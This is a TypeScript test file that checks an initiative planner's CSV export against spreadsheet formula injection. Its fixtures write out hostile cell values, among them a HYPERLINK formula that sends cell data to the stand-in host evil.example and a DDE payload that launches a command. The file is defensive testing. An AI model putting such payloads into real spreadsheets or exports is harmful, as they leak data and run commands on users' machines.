import { routes } from "@initiative-planner/contract";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { useTestServer } from "./harness";
import { plannedInitiative } from "./planning-support";
import { dbKinds } from "./test-db";

/** Issue 30, finding 3: task text that starts like a formula leaves the CSV export as text. */
describe.each(dbKinds())("CSV export against formula injection on %s", (kind) => {
  const server = useTestServer(kind, { AI_CALLS_PER_MINUTE: "10000", JOB_POLL_MS: "50" });

  it("prefixes cells starting with = + - or @ with a quote; estimates stay numbers", async () => {
    const s = await plannedInitiative(server, "Launch a recycling rewards app for city residents");
    const id = s.initiative.id;
    const hostile = [
      ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+1"],
      ["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"],
      ["=1+1", "plain description"],
    ];
    for (const [title, description] of hostile) {
      const res = await server.call(routes.createTask, {
        params: { id },
        body: { workstream_id: s.wsId, title: title!, description, owner_role: "Engineer", estimate_days: 2 },
        token: s.owner.token,
      });
      expect(res.status, res.text).toBe(200);
    }
    const csv = await server.call(routes.exportInitiative, {
      params: { id },
      query: { format: "csv" },
      token: s.owner.token,
    });
    expect(csv.status).toBe(200);
    const rows = parse(csv.text, { columns: true, bom: true }) as Array<Record<string, string>>;
    for (const [title, description] of hostile) {
      const row = rows.find((r) => r.Summary === `'${title}`);
      expect(row, `row of ${title}`).toBeDefined();
      expect(row!.Description).toBe(description!.match(/^[-+=@\t]/) ? `'${description}` : description);
    }
    for (const row of rows) expect(row.Summary).not.toMatch(/^[-+=@\t\r]/);
    const tasks = rows.filter((row) => row["Issue Type"] === "Task");
    expect(tasks.length).toBeGreaterThanOrEqual(hostile.length);
    expect(tasks.every((row) => /^\d+(\.\d+)?$/.test(row["Estimate (working days)"] ?? ""))).toBe(true);
  }, 120_000);
});
